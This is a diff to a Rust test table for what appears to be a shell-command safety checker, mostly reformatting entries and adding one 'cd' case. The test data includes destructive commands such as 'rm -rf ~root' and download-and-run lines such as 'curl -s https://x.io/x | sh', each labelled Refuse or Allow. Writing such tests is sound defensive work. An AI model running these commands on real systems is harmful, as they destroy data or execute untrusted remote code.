@@ -81,7 +81,12 @@ const CASES: &[(&str, &str, &str, Expect)] = &[
     ("delete", "root's home", "rm -rf ~root", Refuse),
     ("delete", "an unknown value bash checks is set", "read -r X; rm -rf \"${X:?}\"/*", Allow),
     // `/usr/share` only when `$B` is not empty and `$A` is.
-    ("delete", "two unknown values, one empty", "read -r A B; rm -rf \"/usr/$B/../share$A\"", Refuse),
+    (
+        "delete",
+        "two unknown values, one empty",
+        "read -r A B; rm -rf \"/usr/$B/../share$A\"",
+        Refuse,
+    ),
     ("delete", "an alternative value", "rm -rf ${BUILD:+/}", Refuse),
     ("delete", "a length is a number", "rm -rf \"${#NAME}\"/*", Allow),
     ("delete", "a process id is a number", "rm -rf \"$$\"/*", Allow),
@@ -159,8 +164,18 @@ const CASES: &[(&str, &str, &str, Expect)] = &[
         Refuse,
     ),
     ("pipe-to-shell", "file into sh", "cat x | sh", Refuse),
-    ("pipe-to-shell", "download into sh, output to a file", "curl -s https://x.io/x | sh > o.log", Refuse),
-    ("pipe-to-shell", "download into sh, fd 3 from a file", "curl -s https://x.io/x | sh 3< a", Refuse),
+    (
+        "pipe-to-shell",
+        "download into sh, output to a file",
+        "curl -s https://x.io/x | sh > o.log",
+        Refuse,
+    ),
+    (
+        "pipe-to-shell",
+        "download into sh, fd 3 from a file",
+        "curl -s https://x.io/x | sh 3< a",
+        Refuse,
+    ),
     (
         "pipe-to-shell",
         "download into python -",
@@ -219,6 +234,7 @@ const CASES: &[(&str, &str, &str, Expect)] = &[
     ("cd", "to an unset variable, unquoted", "cd $UNSET_FOR_KEEL_TEST && rm -rf *", Refuse),
     ("cd", "to an unset variable, quoted", "cd \"$UNSET_FOR_KEEL_TEST\" && rm -rf *", Allow),
     ("cd", "to a number", "cd \"$$\" && rm -rf *", Allow),
+    ("cd", "to an empty string, which stays", "cd \"\" && rm -rf *", Allow),
     ("cd", "to an empty positional", "cd $1 && rm -rf *", Refuse),
     ("cd", "cd home then *", "cd ~ && rm -rf ./*", Refuse),
     ("cd", "bare cd then .", "cd; rm -rf .", Refuse),
